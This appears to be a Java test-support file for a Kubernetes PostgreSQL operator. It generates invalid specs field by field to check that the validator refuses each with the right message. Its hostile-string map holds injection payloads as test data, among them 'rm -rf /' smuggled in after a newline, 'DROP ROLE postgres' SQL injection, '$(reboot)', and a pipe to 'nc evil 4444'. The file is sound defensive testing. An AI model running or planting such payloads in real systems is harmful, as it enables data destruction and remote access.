package io.pks.operator.validation;

import java.math.BigInteger;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.Consumer;
import java.util.function.IntFunction;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

import io.pks.operator.TestPairs;
import io.pks.operator.api.v1alpha1.SpecRules;

/**
 * The hostile corpus (issue 7): the example resource mutated field by field with hostile values,
 * each case naming the field its message must name. Generated, so a new field or value is one line.
 */
public final class HostileSpecs {
  private HostileSpecs() {
  }

  private static final JsonNodeFactory JSON = JsonNodeFactory.instance;

  /**
   * Cases only the operator refuses: comparing quantities takes Kubernetes' CEL quantity library,
   * which cel-java lacks. The API server refuses the StatefulSet (or the claim's shrink) instead;
   * the operator refuses first, so nothing is half changed.
   */
  public static final Set<String> BEYOND_CEL = Set.of("request above limit", "storage shrunk",
      "storage shrunk in another unit");

  /**
   * Strings an attacker or a slip of the keyboard puts anywhere: configuration and SQL syntax,
   * shell and kubelet expansion, option injection, control characters, lookalikes, sizes.
   */
  public static final Map<String, String> STRINGS = strings();

  private static Map<String, String> strings() {
    Map<String, String> strings = new LinkedHashMap<>();
    strings.put("newline", "site-a\narchive_command = 'rm -rf /'");
    strings.put("carriage return", "x\rhost all all all trust");
    strings.put("NUL", "x\u0000y");
    strings.put("escape", "x\u001b[2Jy");
    strings.put("single quote", "it's");
    strings.put("double quote", "say \"hi\"");
    strings.put("hash", "x # comment");
    strings.put("DROP ROLE", "'; DROP ROLE postgres; --");
    strings.put("identifier breakout", "x\"; DROP ROLE postgres; --");
    strings.put("command substitution", "$(reboot)");
    strings.put("backticks", "`id`");
    strings.put("semicolon", "a; rm -rf /");
    strings.put("pipe", "a | nc evil 4444");
    strings.put("redirect", "a > /etc/passwd");
    strings.put("kubelet expansion", "$(PKS_REPLICATION_SECRET_DIR)");
    strings.put("leading dash", "-h");
    strings.put("glob", "*");
    strings.put("path traversal", "../../etc/shadow");
    strings.put("backslash", "a\\");
    strings.put("lookalike", "s\u0456te-a");
    strings.put("empty", "");
    strings.put("huge", "a".repeat(100_000));
    return strings;
  }

  /**
   * The hostile strings the validator accepts as free text (a parameter's value), which must then
   * reach postgresql.conf quoted.
   */
  public static Map<String, String> acceptedAsFreeText() {
    Map<String, String> accepted = new LinkedHashMap<>();
    STRINGS.forEach((label, value) -> {
      if (SpecValidator.validate(TestPairs.example(json -> TestPairs.spec(json).with("postgres").with("parameters")
          .put("log_line_prefix", value)), AppliedState.NONE).isEmpty()) {
        accepted.put(label, value);
      }
    });
    return accepted;
  }

  /** A formatted field: where it is in the spec, and the problem the validator names when it is wrong. */
  private record Format(String field, String problem) {
  }

  /**
   * Strings with a format (names, sizes, selectors, enums as strings): every hostile string is
   * refused, with the format it breaks.
   */
  private static final Map<String, Format> FORMATTED_FIELDS = formattedFields();

  private static Map<String, Format> formattedFields() {
    Map<String, Format> fields = new LinkedHashMap<>();
    String objectName = "must be a Kubernetes object name";
    String labelValue = "must be a label value";
    format(fields, "members[1].name", "must be a lowercase DNS label of at most 15 characters");
    format(fields, "primary", "must name one of spec.members");
    format(fields, "postgres.image", "must be a container image reference");
    format(fields, "postgres.storage.size", "must be a positive Kubernetes quantity");
    format(fields, "postgres.storage.storageClassName", objectName);
    format(fields, "postgres.superuserSecret", objectName);
    format(fields, "replication.user", "must be a lowercase SQL identifier");
    format(fields, "replication.passwordSecret", objectName);
    format(fields, "replication.walKeepSize", "must be a size with a unit");
    format(fields, "replication.maxSlotWalKeepSize", "must be -1 or a size with a unit");
    format(fields, "replication.allowedCidrs[0]", "CIDR notation");
    format(fields, "sip.siteLabel", "must be a label key");
    format(fields, "sip.active", "must be FollowPrimary or name one of spec.members");
    format(fields, "sip.service.type", "must be ClusterIP, NodePort or LoadBalancer");
    format(fields, "sip.service.ports[0].name", "must be a lowercase DNS label of at most 15 characters");
    format(fields, "sip.service.ports[0].protocol", "must be UDP, TCP or SCTP");
    format(fields, "networkPolicy.operatorNamespace", "must be a namespace name");
    format(fields, "replication.tls.certificateSecret", objectName);
    format(fields, "pods.priorityClassName", objectName);
    format(fields, "pods.imagePullSecrets[0]", objectName);
    fields.put("members[0].nodeSelector.topology\\.kubernetes\\.io/zone",
        new Format("spec.members[0].nodeSelector.topology.kubernetes.io/zone", labelValue));
    fields.put("sip.podSelector.app\\.kubernetes\\.io/name",
        new Format("spec.sip.podSelector.app.kubernetes.io/name", labelValue));
    format(fields, "networkPolicy.applicationSelector.app", labelValue);
    format(fields, "networkPolicy.operatorSelector.app", labelValue);
    format(fields, "pods.inheritedMetadata.labels.team", labelValue);
    return fields;
  }

  private static void format(Map<String, Format> fields, String path, String problem) {
    fields.put(path, new Format("spec." + path, problem));
  }

  /** Fields the spec cannot do without: an empty value is a missing one. */
  private static final List<String> REQUIRED_FIELDS = List.of("members[1].name", "primary");

  private static final List<String> BOOLEAN_FIELDS = List.of("replication.slot", "failover.allowDataLoss",
      "networkPolicy.enabled", "pods.platformAssignsUser");
  private static final List<String> ENUM_FIELDS = List.of("replication.synchronous", "failover.mode",
      "deletionPolicy", "primaryUpdateMethod");

  public static List<SpecCase> all() {
    List<SpecCase> cases = new ArrayList<>();
    FORMATTED_FIELDS.forEach((path, format) -> STRINGS.forEach((label, value) -> {
      // An empty label value is a label value.
      if (!((path.contains("Selector") || path.contains("labels")) && value.isEmpty())) {
        String problem = value.isEmpty() && REQUIRED_FIELDS.contains(path) ? "is required" : format.problem();
        cases.add(invalid(path + " " + label, spec -> set(spec, path, JSON.textNode(value)), format.field(),
            problem));
      }
    }));
    for (String path : List.of("postgres.parameters.work_mem", "replication.archiveCommand")) {
      for (String label : List.of("newline", "carriage return", "NUL", "escape", "huge")) {
        String problem = label.equals("huge") ? "must be at most 4096 characters"
            : "must be a single line without control characters";
        cases.add(invalid(path + " " + label, spec -> set(spec, path, JSON.textNode(STRINGS.get(label))),
            "spec." + path, problem));
      }
    }
    cases.add(invalid("replication.archiveCommand blank",
        spec -> set(spec, "replication.archiveCommand", JSON.textNode(" \t")),
        "spec.replication.archiveCommand", "non-empty"));
    STRINGS.forEach((label, value) -> cases.add(invalid("parameter name " + label,
        spec -> spec.with("postgres").with("parameters").put(value, "on"), "spec.postgres.parameters",
        "is not a PostgreSQL setting name")));
    integers(cases);
    cases.addAll(pastBounds());
    wrongTypes(cases, BOOLEAN_FIELDS, "true or false",
        List.of(JSON.textNode("true"), JSON.textNode("yes"), JSON.numberNode(1), JSON.arrayNode()));
    wrongTypes(cases, ENUM_FIELDS, "must be one of", List.of(JSON.textNode("Sometimes"), JSON.textNode("off"),
        JSON.textNode(""), JSON.numberNode(0), JSON.textNode("Required; DROP ROLE postgres")));
    parameters(cases);
    structure(cases);
    placement(cases);
    sip(cases);
    immutable(cases);
    backups(cases);
    return cases;
  }

  /**
   * spec.backup's and spec.bootstrap.recovery's strings, each given every hostile string over an
   * otherwise valid section (so the CRD's refusal is the field's, not a missing field's). The two a
   * path accepts (empty, a leading dash) are among {@link SpecCase#all()}'s valid cases.
   */
  private static void backups(List<SpecCase> cases) {
    String store = "must be an https://host[:port] URL";
    String objectName = "must be a Kubernetes object name";
    Map<String, String> backupFields = new LinkedHashMap<>();
    backupFields.put("objectStore.endpoint", store);
    backupFields.put("objectStore.bucket", "must be a bucket name");
    backupFields.put("objectStore.path", "must be a prefix of letters");
    backupFields.put("objectStore.region", "must be a region name");
    backupFields.put("objectStore.credentialsSecret", objectName);
    backupFields.put("objectStore.caSecret", objectName);
    backupFields.put("schedule", "must be a cron expression in UTC");
    backupFields.put("retention", "must be a number of days");
    Map<String, String> recoveryFields = new LinkedHashMap<>();
    recoveryFields.put("objectStore.endpoint", store);
    recoveryFields.put("source", objectName);
    recoveryFields.put("targetTime", "must be an RFC 3339 time");
    recoveryFields.put("targetLSN", "must be a WAL position");
    Set<String> acceptedPaths = Set.of("empty", "leading dash");
    backupFields.forEach((field, problem) -> STRINGS.forEach((label, value) -> {
      if (!(field.equals("objectStore.path") && acceptedPaths.contains(label))) {
        cases.add(invalid("backup." + field + " " + label,
            spec -> set(validBackup(spec), field, JSON.textNode(value)), "spec.backup." + field, problem));
      }
    }));
    recoveryFields.forEach((field, problem) -> STRINGS.forEach((label, value) -> cases.add(invalid(
        "bootstrap.recovery." + field + " " + label, spec -> set(validRecovery(spec), field, JSON.textNode(value)),
        "spec.bootstrap.recovery." + field, problem))));
    cases.add(invalid("backup.objectStore.endpoint an address",
        spec -> set(validBackup(spec), "objectStore.endpoint", JSON.textNode("https://10.0.0.5:9000")),
        "spec.backup.objectStore.endpoint", "not an IP address"));
    cases.add(invalid("bootstrap.recovery both targets", spec -> validRecovery(spec)
        .put("targetTime", "2026-11-30T10:00:00Z").put("targetLSN", "0/3000060"), "spec.bootstrap.recovery",
        "not both"));
    cases.add(invalid("replication.archiveCommand with backup", spec -> {
      validBackup(spec);
      set(spec, "replication.archiveCommand", JSON.textNode("true"));
    }, "spec.replication.archiveCommand", "must be absent with spec.backup"));
  }

  /** A complete spec.backup; returns it. */
  private static ObjectNode validBackup(ObjectNode spec) {
    ObjectNode backup = spec.putObject("backup").put("schedule", "0 2 * * *").put("retention", "7d");
    validStore(backup);
    return backup;
  }

  /** A complete spec.bootstrap.recovery from another pair's backups, to the latest WAL; returns it. */
  private static ObjectNode validRecovery(ObjectNode spec) {
    ObjectNode recovery = spec.putObject("bootstrap").putObject("recovery").put("source", "old-pair");
    validStore(recovery);
    return recovery;
  }

  private static void validStore(ObjectNode parent) {
    parent.putObject("objectStore").put("endpoint", "https://s3.example.com").put("bucket", "pks-backups")
        .put("path", "telephony/pks").put("region", "eu-west-3").put("credentialsSecret", "pks-s3")
        .put("caSecret", "pks-s3-ca");
  }

  /** An integer field and its documented bounds (the CRD's minimum and maximum, the validator's message). */
  private record Bounds(String path, long min, long max) {
  }

  private static final List<Bounds> INTEGER_BOUNDS = List.of(new Bounds("postgres.port", 1, 65_535),
      new Bounds("replication.connectionLimit", 3, 1000), new Bounds("replication.maxWalSenders", 4, 1000),
      new Bounds("failover.primaryUnavailableSeconds", 1, 3600), new Bounds("sip.service.ports[0].port", 1, 65_535));
  private static final List<String> INTEGER_FIELDS = INTEGER_BOUNDS.stream().map(Bounds::path).toList();

  /** Each integer field at its minimum and at its maximum: accepted. */
  public static List<SpecCase> atTheLimits() {
    List<SpecCase> cases = new ArrayList<>();
    for (Bounds bounds : INTEGER_BOUNDS) {
      for (long value : List.of(bounds.min(), bounds.max())) {
        cases.add(SpecCase.valid(bounds.path() + " " + value, spec -> set(spec, bounds.path(), JSON.numberNode(value))));
      }
    }
    return cases;
  }

  private static void integers(List<SpecCase> cases) {
    for (Bounds bounds : INTEGER_BOUNDS) {
      String path = bounds.path();
      // The first value past each limit, then values far past both.
      Set<Long> outside = new LinkedHashSet<>(List.of(bounds.min() - 1, bounds.max() + 1, -1L, 0L, 65_536L,
          (long) Integer.MAX_VALUE));
      outside.removeIf(value -> value >= bounds.min() && value <= bounds.max());
      for (long value : outside) {
        cases.add(invalid(path + " " + value, spec -> set(spec, path, JSON.numberNode(value)), "spec." + path,
            "must be between " + bounds.min() + " and " + bounds.max()));
      }
    }
    wrongTypes(cases, INTEGER_FIELDS, "an integer", List.of(JSON.textNode("5432"), JSON.textNode("abc"),
        JSON.numberNode(1.5), JSON.numberNode(1e30), JSON.booleanNode(true), JSON.objectNode()));
    for (String path : INTEGER_FIELDS) {
      cases.add(invalid(path + " beyond 32 bits",
          spec -> set(spec, path, JSON.numberNode(new BigInteger("9".repeat(40)))),
          "spec." + path, "out of range"));
    }
  }

  /** Every bound of the API at its limit: accepted by the CRD and the validator alike. */
  public static List<SpecCase> atBounds() {
    return bounded().stream().filter(SpecCase::valid).toList();
  }

  /** Every bound of the API one past its limit: refused by the CRD and the validator alike. */
  static List<SpecCase> pastBounds() {
    return bounded().stream().filter(specCase -> !specCase.valid()).toList();
  }

  private static List<SpecCase> bounded() {
    List<SpecCase> cases = new ArrayList<>();
    bounds(cases);
    sizes(cases);
    return cases;
  }

  /** Each integer's bounds from SpecRules: the bound itself is accepted, the first value past it refused. */
  private static void bounds(List<SpecCase> cases) {
    Map<String, long[]> bounds = new LinkedHashMap<>();
    bounds.put("postgres.port", new long[] {SpecRules.MIN_PORT, SpecRules.MAX_PORT});
    bounds.put("sip.service.ports[0].port", new long[] {SpecRules.MIN_PORT, SpecRules.MAX_PORT});
    bounds.put("replication.connectionLimit",
        new long[] {SpecRules.MIN_CONNECTION_LIMIT, SpecRules.MAX_CONNECTION_LIMIT});
    bounds.put("replication.maxWalSenders", new long[] {SpecRules.MIN_WAL_SENDERS, SpecRules.MAX_WAL_SENDERS});
    for (String path : List.of("failover.primaryUnavailableSeconds", "failover.standbyUnavailableSeconds")) {
      bounds.put(path, new long[] {SpecRules.MIN_UNAVAILABLE_SECONDS, SpecRules.MAX_UNAVAILABLE_SECONDS});
    }
    bounds.put("failover.crashRecoverySeconds",
        new long[] {SpecRules.MIN_CRASH_RECOVERY_SECONDS, SpecRules.MAX_CRASH_RECOVERY_SECONDS});
    bounds.put("failover.isolationStopSeconds",
        new long[] {SpecRules.MIN_ISOLATION_STOP_SECONDS, SpecRules.MAX_ISOLATION_STOP_SECONDS});
    bounds.forEach((path, range) -> {
      for (long value : range) {
        cases.add(SpecCase.valid(path + " at its bound " + value, spec -> set(spec, path, JSON.numberNode(value))));
      }
      for (long value : List.of(range[0] - 1, range[1] + 1)) {
        cases.add(invalid(path + " just past its bound " + value, spec -> set(spec, path, JSON.numberNode(value)),
            "spec." + path, "must be between"));
      }
    });
  }

  /**
   * The list, map and string bounds the CEL cost estimate relies on: the bound is accepted, one more
   * refused, by the CRD and the validator alike.
   */
  private static void sizes(List<SpecCase> cases) {
    Map<String, Integer> selectors = new LinkedHashMap<>();
    for (String path : List.of("members[0].nodeSelector", "sip.podSelector", "networkPolicy.applicationSelector",
        "networkPolicy.operatorSelector")) {
      selectors.put(path, SpecRules.MAX_SELECTOR_LABELS);
    }
    selectors.put("pods.inheritedMetadata.labels", SpecRules.MAX_SELECTOR_LABELS);
    selectors.put("pods.inheritedMetadata.annotations", SpecRules.MAX_ANNOTATIONS);
    selectors.put("postgres.resources.requests", SpecRules.MAX_RESOURCES);
    selectors.put("postgres.resources.limits", SpecRules.MAX_RESOURCES);
    selectors.forEach((path, max) -> sized(cases, path, max, count -> {
      ObjectNode labels = JSON.objectNode();
      for (int i = 0; i < count; i++) {
        labels.put("example.com/k" + i, path.startsWith("postgres") ? "1" : "v");
      }
      return labels;
    }));
    sized(cases, "postgres.parameters", (int) SpecRules.MAX_PARAMETERS, count -> {
      ObjectNode parameters = JSON.objectNode();
      for (int i = 0; i < count; i++) {
        parameters.put("ext.setting_" + i, "on");
      }
      return parameters;
    });
    sized(cases, "replication.allowedCidrs", SpecRules.MAX_ALLOWED_CIDRS, count -> {
      ArrayNode cidrs = JSON.arrayNode();
      for (int i = 0; i < count; i++) {
        cidrs.add("10.0." + i + ".0/24");
      }
      return cidrs;
    });
    sized(cases, "members[0].tolerations", SpecRules.MAX_TOLERATIONS, count -> {
      ArrayNode tolerations = JSON.arrayNode();
      for (int i = 0; i < count; i++) {
        tolerations.addObject().put("key", "example.com/t" + i).put("operator", "Exists");
      }
      return tolerations;
    });
    sized(cases, "sip.service.ports", SpecRules.MAX_SIP_PORTS, count -> {
      ArrayNode ports = JSON.arrayNode();
      for (int i = 0; i < count; i++) {
        ports.addObject().put("name", "sip-" + i).put("port", 5060 + i);
      }
      return ports;
    });
    sized(cases, "pods.imagePullSecrets", SpecRules.MAX_IMAGE_PULL_SECRETS, count -> {
      ArrayNode secrets = JSON.arrayNode();
      for (int i = 0; i < count; i++) {
        secrets.add("pull-" + i);
      }
      return secrets;
    });
    sized(cases, "pods.topologySpreadConstraints", SpecRules.MAX_TOPOLOGY_SPREAD_CONSTRAINTS, count -> {
      ArrayNode spread = JSON.arrayNode();
      for (int i = 0; i < count; i++) {
        spread.addObject().put("topologyKey", "example.com/t" + i).put("maxSkew", 1)
            .put("whenUnsatisfiable", "ScheduleAnyway");
      }
      return spread;
    });
    cases.add(invalid("an inherited annotation's value past " + SpecRules.MAX_VALUE_LENGTH + " characters",
        spec -> set(spec, "pods.inheritedMetadata.annotations.note", JSON.textNode("n".repeat(SpecRules.MAX_VALUE_LENGTH + 1))),
        "spec.pods.inheritedMetadata.annotations.note", "at most " + SpecRules.MAX_VALUE_LENGTH));
    cases.add(invalid("an inherited annotation key with a space",
        spec -> set(spec, "pods.inheritedMetadata.annotations.bad key", JSON.textNode("x")),
        "spec.pods.inheritedMetadata.annotations", "not a valid key"));
    cases.add(invalid("a topology spread constraint's unknown field",
        spec -> set(spec, "pods.topologySpreadConstraints[0]", JSON.objectNode().put("topologyKey", "zone")
            .put("maxSkew", 1).put("whenUnsatisfiable", "ScheduleAnyway").put("skew", 1)),
        "spec.pods.topologySpreadConstraints[0].skew", "is not a field"));
    cases.add(invalid("a toleration's value past " + SpecRules.MAX_LABEL_VALUE + " characters",
        spec -> set(spec, "members[0].tolerations[0]", JSON.objectNode().put("key", "dedicated")
            .put("operator", "Equal").put("value", "v".repeat(SpecRules.MAX_LABEL_VALUE + 1))),
        "spec.members[0].tolerations[0].value", "at most " + SpecRules.MAX_LABEL_VALUE));
    cases.add(invalid("a CIDR past " + SpecRules.MAX_CIDR + " characters",
        spec -> set(spec, "replication.allowedCidrs[0]", JSON.textNode("0".repeat(SpecRules.MAX_CIDR) + "::/64")),
        "spec.replication.allowedCidrs[0]", null));
  }

  private static void sized(List<SpecCase> cases, String path, int max, IntFunction<JsonNode> ofSize) {
    cases.add(SpecCase.valid(path + " at its bound " + max, spec -> set(spec, path, ofSize.apply(max))));
    cases.add(invalid(path + " just past its bound " + (max + 1), spec -> set(spec, path, ofSize.apply(max + 1)),
        "spec." + path, "at most " + max));
  }

  private static void wrongTypes(List<SpecCase> cases, List<String> paths, String problem, List<JsonNode> values) {
    for (String path : paths) {
      for (JsonNode value : values) {
        cases.add(invalid(path + " " + value, spec -> set(spec, path, value), "spec." + path, problem));
      }
    }
  }

  private static void parameters(List<SpecCase> cases) {
    List<String> owned = new ArrayList<>(SpecRules.OWNED_PARAMETERS);
    owned.addAll(List.of("ssl", "ssl_ciphers", "ssl_min_protocol_version", "recovery_target_time"));
    for (String name : owned) {
      cases.add(invalid("owned parameter " + name, parameter(name, "x"), "spec.postgres.parameters." + name,
          "set by the operator"));
    }
    for (String name : List.of("shared_bufers", "max_connection", "archive_commands", "log_statment", "fsynch")) {
      cases.add(invalid("unknown parameter " + name, parameter(name, "on"), "spec.postgres.parameters",
          "not a PostgreSQL setting"));
    }
    cases.add(invalid("parameter value a number", spec -> spec.with("postgres").with("parameters")
        .put("max_connections", 200), "spec.postgres.parameters.max_connections", "a string"));
    cases.add(invalid("parameter value an object", spec -> spec.with("postgres").with("parameters")
        .putObject("max_connections").put("value", "200"), "spec.postgres.parameters.max_connections", "a string"));
    cases.add(invalid("parameters a list", spec -> spec.with("postgres").putArray("parameters").add("fsync=off"),
        "spec.postgres.parameters", "an object"));
  }

  private static Consumer<ObjectNode> parameter(String name, String value) {
    return spec -> spec.with("postgres").with("parameters").put(name, value);
  }

  private static void structure(List<SpecCase> cases) {
    cases.add(invalid("no spec", spec -> { }, "spec", "is required").withoutSpec());
    cases.add(invalid("spec a string", spec -> { }, "spec", "an object").withSpec(JSON.textNode("site-a")));
    cases.add(invalid("spec a list", spec -> { }, "spec", "an object").withSpec(JSON.arrayNode()));
    cases.add(invalid("no members", spec -> spec.remove("members"), "spec.members", "exactly two"));
    cases.add(invalid("members empty", spec -> spec.putArray("members"), "spec.members", "exactly two"));
    cases.add(invalid("members a string", spec -> spec.put("members", "site-a,site-b"), "spec.members", "a list"));
    cases.add(invalid("members an object", spec -> spec.putObject("members").put("name", "site-a"),
        "spec.members", "a list"));
    cases.add(invalid("members as strings", spec -> spec.putArray("members").add("site-a").add("site-b"),
        "spec.members[0]", "an object"));
    cases.add(invalid("a null member", spec -> members(spec).set(1, JSON.nullNode()), "spec.members[1]",
        "an object"));
    cases.add(invalid("four members", spec -> {
      members(spec).addObject().put("name", "site-c");
      members(spec).addObject().put("name", "site-d");
    }, "spec.members", "exactly two"));
    cases.add(invalid("member without name", spec -> ((ObjectNode) members(spec).get(1)).remove("name"),
        "spec.members[1].name", "is required"));
    cases.add(invalid("member name null", spec -> ((ObjectNode) members(spec).get(1)).putNull("name"),
        "spec.members[1].name", "is required"));
    cases.add(invalid("primary in capitals", spec -> spec.put("primary", "SITE-A"), "spec.primary",
        "must name one of"));
    for (String path : List.of("", "postgres", "postgres.storage", "replication", "failover", "sip", "sip.service",
        "members[0]", "sip.service.ports[0]", "networkPolicy", "replication.tls")) {
      String parent = path.isEmpty() ? "spec" : "spec." + path;
      cases.add(invalid("unknown field in " + parent, spec -> set(spec, (path.isEmpty() ? "" : path + ".")
          + "replicas", JSON.numberNode(3)), parent + ".replicas", "not a field"));
    }
    cases.add(invalid("TLS without its Secret", spec -> spec.with("replication").putObject("tls"),
        "spec.replication.tls.certificateSecret", "is required"));
    cases.add(invalid("TLS a string", spec -> spec.with("replication").put("tls", "on"),
        "spec.replication.tls", "an object"));
    cases.add(invalid("misspelt synchronous", spec -> spec.with("replication").put("synchronus", "Required"),
        "spec.replication.synchronus", "not a field"));
  }

  private static void placement(List<SpecCase> cases) {
    String resources = "spec.postgres.resources";
    cases.add(invalid("cpu request in words", spec -> spec.with("postgres").with("resources").with("requests")
        .put("cpu", "lots"), resources + ".requests.cpu", "quantity"));
    cases.add(invalid("negative memory limit", spec -> spec.with("postgres").with("resources").with("limits")
        .put("memory", "-2Gi"), resources + ".limits.memory", "quantity"));
    cases.add(invalid("request above limit", spec -> spec.with("postgres").with("resources").with("requests")
        .put("memory", "4Gi"), resources + ".requests.memory", "must not exceed"));
    cases.add(invalid("resource name with a semicolon", spec -> spec.with("postgres").with("resources")
        .with("requests").put("cpu; rm -rf /", "1"), resources + ".requests", "not a resource name"));
    cases.add(invalid("misspelt requests", spec -> spec.with("postgres").with("resources").with("request")
        .put("cpu", "1"), resources + ".request", "not a field"));
    cases.add(invalid("resources a string", spec -> spec.with("postgres").put("resources", "large"),
        resources, "an object"));
    cases.add(invalid("resource claims", spec -> spec.with("postgres").with("resources").putArray("claims")
        .addObject().put("name", "gpu"), resources + ".claims", "not supported"));
    String member = "spec.members[0]";
    cases.add(invalid("toleration operator", spec -> toleration(spec).put("operator", "Sometimes"),
        member + ".tolerations[0].operator", "Exists or Equal"));
    cases.add(invalid("toleration effect", spec -> toleration(spec).put("effect", "Evict"),
        member + ".tolerations[0].effect", "NoSchedule"));
    cases.add(invalid("toleration key", spec -> toleration(spec).put("key", "a b"),
        member + ".tolerations[0].key", "label key"));
    cases.add(invalid("tolerations a string", spec -> ((ObjectNode) members(spec).get(0)).put("tolerations", "all"),
        member + ".tolerations", "a list"));
    cases.add(invalid("affinity misspelt", spec -> ((ObjectNode) members(spec).get(0)).putObject("affinity")
        .putObject("nodeAfinity"), member + ".affinity.nodeAfinity", "not a field"));
    cases.add(invalid("node selector key", spec -> ((ObjectNode) members(spec).get(0)).with("nodeSelector")
        .put("zone; rm", "x"), member + ".nodeSelector", "not a valid label key"));
    cases.add(invalid("node selector value a number", spec -> ((ObjectNode) members(spec).get(0))
        .with("nodeSelector").put("zone", 1), member + ".nodeSelector.zone", "a string"));
  }

  private static ObjectNode toleration(ObjectNode spec) {
    return ((ObjectNode) members(spec).get(0)).putArray("tolerations").addObject().put("key", "dedicated");
  }

  private static void sip(List<SpecCase> cases) {
    cases.add(invalid("SIP site naming no member", spec -> spec.with("sip").put("active", "site-c"),
        "spec.sip.active", "FollowPrimary or name one of"));
    cases.add(invalid("SIP selector key", spec -> spec.with("sip").with("podSelector").put("app name", "x"),
        "spec.sip.podSelector", "not a valid label key"));
    cases.add(invalid("SIP port null", spec -> ports(spec).set(1, JSON.nullNode()), "spec.sip.service.ports[1]",
        "an object"));
    cases.add(invalid("SIP port without number", spec -> ((ObjectNode) ports(spec).get(1)).remove("port"),
        "spec.sip.service.ports[1].port", "is required"));
    cases.add(invalid("SIP ports an object", spec -> spec.with("sip").with("service").putObject("ports")
        .put("sip", 5060), "spec.sip.service.ports", "a list"));
  }

  private static ArrayNode ports(ObjectNode spec) {
    return (ArrayNode) spec.with("sip").with("service").get("ports");
  }

  /** Updates of the example (its objects in place): immutable fields changed. */
  private static void immutable(List<SpecCase> cases) {
    cases.add(SpecCase.changed("standby member renamed", spec -> ((ObjectNode) members(spec).get(1))
        .put("name", "site-c"), "spec.members", "immutable"));
    cases.add(SpecCase.changed("primary member renamed", spec -> {
      ((ObjectNode) members(spec).get(0)).put("name", "site-c");
      spec.put("primary", "site-c");
    }, "spec.members", "immutable"));
    cases.add(SpecCase.changed("members swapped for new ones", spec -> {
      spec.putArray("members").addObject().put("name", "east");
      members(spec).addObject().put("name", "west");
      spec.put("primary", "east");
    }, "spec.members", "immutable"));
    cases.add(SpecCase.changed("storage class set", spec -> spec.with("postgres").with("storage")
        .put("storageClassName", "fast"), "spec.postgres.storage.storageClassName", "immutable"));
    cases.add(SpecCase.changed("storage shrunk", spec -> spec.with("postgres").with("storage").put("size", "19Gi"),
        "spec.postgres.storage.size", "cannot shrink: the volumes have 20Gi"));
    cases.add(SpecCase.changed("storage shrunk in another unit", spec -> spec.with("postgres").with("storage")
        .put("size", "20G"), "spec.postgres.storage.size", "cannot shrink"));
    cases.add(SpecCase.changed("one member dropped", spec -> members(spec).remove(1), "spec.members",
        "exactly two"));
  }

  private static ArrayNode members(ObjectNode spec) {
    return (ArrayNode) spec.get("members");
  }

  private static SpecCase invalid(String name, Consumer<ObjectNode> edit, String field, String problem) {
    return SpecCase.invalid(name, edit, field, problem);
  }

  /**
   * Sets {@code value} at {@code path} under spec, creating objects on the way: dots separate
   * fields ({@code \.} is a dot inside a key), {@code [i]} indexes a list, which is created with
   * one object (or value) when absent.
   */
  static void set(ObjectNode spec, String path, JsonNode value) {
    String[] steps = path.split("(?<!\\\\)\\.");
    JsonNode node = spec;
    for (int i = 0; i < steps.length; i++) {
      String step = steps[i].replace("\\.", ".");
      boolean last = i == steps.length - 1;
      int bracket = step.indexOf('[');
      String key = bracket < 0 ? step : step.substring(0, bracket);
      ObjectNode object = (ObjectNode) node;
      if (bracket < 0) {
        if (last) {
          object.set(key, value);
          return;
        }
        node = object.has(key) && object.get(key).isObject() ? object.get(key) : object.putObject(key);
      } else {
        int index = Integer.parseInt(step.substring(bracket + 1, step.length() - 1));
        ArrayNode array = object.has(key) && object.get(key).isArray() ? (ArrayNode) object.get(key)
            : object.putArray(key);
        while (array.size() <= index) {
          array.add(last ? JSON.nullNode() : JSON.objectNode());
        }
        if (last) {
          array.set(index, value);
          return;
        }
        node = array.get(index);
      }
    }
  }
}
